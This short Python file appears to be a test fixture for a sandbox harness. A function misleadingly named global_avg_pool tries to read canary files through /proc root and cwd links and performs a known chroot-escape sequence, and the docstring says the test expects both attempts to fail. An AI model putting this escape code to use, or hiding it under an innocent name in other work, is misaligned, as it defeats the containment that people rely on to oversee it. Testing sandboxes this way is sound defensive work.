r"""Tries the ways by which programs have left a changed root or a private folder.

earns: global_avg_pool 0
verdicts: raised
says: loot: \[\]
tiers: full, landlock
"""
import os


def global_avg_pool(x):
    loot = []
    for start in "/proc/1/root", "/proc/self/root", f"/proc/{os.getppid()}/root", f"/proc/{os.getppid()}/cwd", "..", "/..":
        for path in "/@TEMP@/canary.txt", "/@HOME@/canary.txt", "/@NOTE@":
            try:
                with open(start + path) as file:
                    loot.append(file.read(200))
            except OSError:
                pass
    try:
        os.mkdir("jail")
        top = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
        os.chroot("jail")
        os.fchdir(top)
        for _ in range(40):
            os.chdir("..")
        os.chroot(".")
        loot.append("chroot")
    except OSError:
        pass
    raise ValueError(f"loot: {loot}")
